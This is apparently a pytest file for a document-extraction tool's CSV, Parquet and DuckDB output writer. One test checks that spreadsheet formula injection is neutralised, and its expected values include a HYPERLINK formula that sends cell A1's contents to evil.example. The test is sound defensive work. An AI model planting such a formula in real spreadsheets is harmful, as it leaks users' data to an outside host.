"""write_outputs (`jospar extract --out`) on built documents and on the real samples in data/samples."""
from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pytest

from store import Store, write_outputs
from store.csv_safe import INERT_PREFIX, is_formula_like
from store.parquet import read_parquet
from store.review_sql import REVIEW_SCHEMAS
from store.tables import ARROW_SCHEMAS, TABLES
from tests.outputs.documents import corpus
from tests.outputs.test_parallel_parts import write_parts_worker

SAMPLES = sorted((Path(__file__).resolve().parents[2] / "data" / "samples").glob("*.txt"))


@pytest.fixture(scope="module")
def sample_docs():
    from pipeline.extract import extract_path
    assert SAMPLES, "data/samples/*.txt are part of the repository"
    return [extract_path(path) for path in SAMPLES]


def read_csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def check_files_agree(out: Path, counts: dict[str, int]) -> None:
    """CSV and Parquet hold the same rows; CSV text differs only by the inert apostrophe."""
    for table in TABLES:
        assert (out / f"{table}.csv").read_bytes().startswith(b"\xef\xbb\xbf")
        exact = read_parquet(table, out / f"{table}.parquet")
        assert exact.schema.equals(ARROW_SCHEMAS[table]) and exact.num_rows == counts[table]
        shown = read_csv(out / f"{table}.csv")
        assert len(shown) == counts[table]
        for original, row in zip(exact.to_pylist(), shown):
            for column, value in original.items():
                if isinstance(value, str):
                    assert row[column] == (INERT_PREFIX + value if is_formula_like(value) else value)


def run_twice(docs, out: Path) -> dict[str, int]:
    counts = write_outputs(docs, out)
    files = {p.name: p.read_bytes() for p in out.iterdir() if p.suffix in (".csv", ".parquet")}
    assert write_outputs(docs, out) == counts
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.suffix in (".csv", ".parquet")} == files
    return counts


def test_built_documents_with_hostile_text(tmp_path):
    out = tmp_path / "out"
    counts = run_twice(corpus(), out)
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [f"{t}.{kind}" for t in [*TABLES, *REVIEW_SCHEMAS] for kind in ("csv", "parquet")] + ["jospar.duckdb"])
    check_files_agree(out, counts)
    measures = read_csv(out / "measures.csv")
    assert {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Басу\")", "'+7 701 234 56 78", "'-5", "'@SUM(A1:A9)"} \
        <= {row["text"] for row in measures}
    assert "Білім беру ұйымдарында тамақтануды ұйымдастыру" in {row["text"] for row in measures}


def test_real_samples_files_and_database(tmp_path, sample_docs):
    out = tmp_path / "out"
    counts = run_twice(sample_docs, out)
    assert counts["documents"] == len(SAMPLES) and counts["measures"] > 0
    check_files_agree(out, counts)
    con = duckdb.connect(str(out / "jospar.duckdb"), read_only=True)
    for table in TABLES:
        assert con.execute(f'SELECT count(*) FROM main."{table}"').fetchall()[0][0] == counts[table]
    duplicates = con.execute("SELECT count(*) - count(DISTINCT measure_id) FROM extracted.measures").fetchall()
    con.close()
    assert duplicates == [(0,)]


def test_real_samples_extracted_again_keep_their_ids(tmp_path, sample_docs):
    from pipeline.extract import extract_path
    again = [extract_path(path) for path in SAMPLES]
    with Store(tmp_path / "j.duckdb") as store:
        store.upsert(sample_docs)
        first = store.arrow("measures")["measure_id"].to_pylist()
        store.upsert(again)
        assert store.arrow("measures")["measure_id"].to_pylist() == first
        assert len(first) == len(set(first))


def test_real_samples_through_parallel_parts(tmp_path, sample_docs):
    import multiprocessing
    payload = [doc.model_dump_json() for doc in sample_docs]
    context = multiprocessing.get_context("spawn")
    start = context.Barrier(2)
    halves = [payload[::2], payload[1::2]]
    workers = [context.Process(target=write_parts_worker, args=(half, str(tmp_path / "parts"), start, 1))
               for half in halves]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(timeout=120)
        assert worker.exitcode == 0
    with Store(tmp_path / "parts.duckdb") as from_parts, Store(tmp_path / "direct.duckdb") as direct:
        assert from_parts.consolidate(tmp_path / "parts") == len(sample_docs)
        direct.upsert(sample_docs)
        for table in TABLES:
            assert from_parts.arrow(table).equals(direct.arrow(table)), table


def test_tables_without_rows_are_written_with_schema_and_header(tmp_path):
    from tests.outputs.documents import empty_document
    for docs, out in (([], tmp_path / "nothing"), ([empty_document()], tmp_path / "no-plan")):
        counts = write_outputs(docs, out)
        assert counts["measures"] == 0 and counts["documents"] == len(docs)
        assert read_parquet("measures", out / "measures.parquet").schema.equals(ARROW_SCHEMAS["measures"])
        assert (out / "measures.csv").read_bytes() == \
            b"\xef\xbb\xbf" + ",".join(ARROW_SCHEMAS["measures"].names).encode() + b"\r\n"
